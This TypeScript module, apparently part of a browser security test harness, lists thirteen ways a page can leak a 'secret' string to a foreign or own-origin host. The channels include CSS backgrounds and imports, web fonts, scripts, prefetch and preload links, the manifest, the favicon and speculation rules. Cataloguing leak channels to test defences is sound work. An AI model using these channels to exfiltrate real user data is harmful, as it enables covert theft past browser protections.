import type { Road } from './road.ts';

/** Roads by what belongs to a page as a whole: styles, fonts, scripts, and files to be fetched ahead. */
export const HEAD_ROADS: Readonly<Record<string, Road>> = {
  'CSS background': ({ foreign, secret }) => {
    document.body.style.backgroundImage = `url(${foreign}${secret})`;
  },
  'CSS @import': ({ foreign, secret }) => {
    const style = document.head.appendChild(document.createElement('style'));
    style.textContent = `@import url(${foreign}${secret});`;
  },
  'CSS background in a constructed sheet': ({ foreign, secret }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { background: url(${foreign}${secret}) }`);
    document.adoptedStyleSheets = [sheet];
  },
  font: ({ foreign, secret }) => {
    const font = new FontFace('Stolen', `url(${foreign}${secret})`);
    document.fonts.add(font);
    void font.load().catch(() => undefined);
  },
  stylesheet: ({ foreign, secret }) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = foreign + secret;
    document.head.append(link);
  },
  script: ({ foreign, secret }) => {
    const script = document.createElement('script');
    script.src = foreign + secret;
    document.head.append(script);
  },
  'script of its own host': ({ own, secret }) => {
    const script = document.createElement('script');
    script.src = own + secret;
    document.head.append(script);
  },
  module: ({ foreign, secret }) => {
    const script = document.createElement('script');
    script.type = 'module';
    script.src = foreign + secret;
    document.head.append(script);
  },
  prefetch: ({ foreign, secret }) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = foreign + secret;
    document.head.append(link);
  },
  preload: ({ foreign, secret }) => {
    const link = document.createElement('link');
    link.rel = 'preload';
    link.as = 'image';
    link.href = foreign + secret;
    document.head.append(link);
  },
  modulepreload: ({ foreign, secret }) => {
    const link = document.createElement('link');
    link.rel = 'modulepreload';
    link.href = foreign + secret;
    document.head.append(link);
  },
  manifest: ({ own, secret }) => {
    const link = document.createElement('link');
    link.rel = 'manifest';
    link.href = own + secret;
    document.head.append(link);
  },
  favicon: ({ foreign, secret }) => {
    for (const old of document.querySelectorAll('link[rel~="icon"]')) old.remove();
    const link = document.createElement('link');
    link.rel = 'icon';
    link.href = foreign + secret;
    document.head.append(link);
  },
  'speculation rules': ({ own, secret }) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({ prefetch: [{ urls: [own + secret], eagerness: 'immediate' }] });
    document.head.append(script);
  },
};
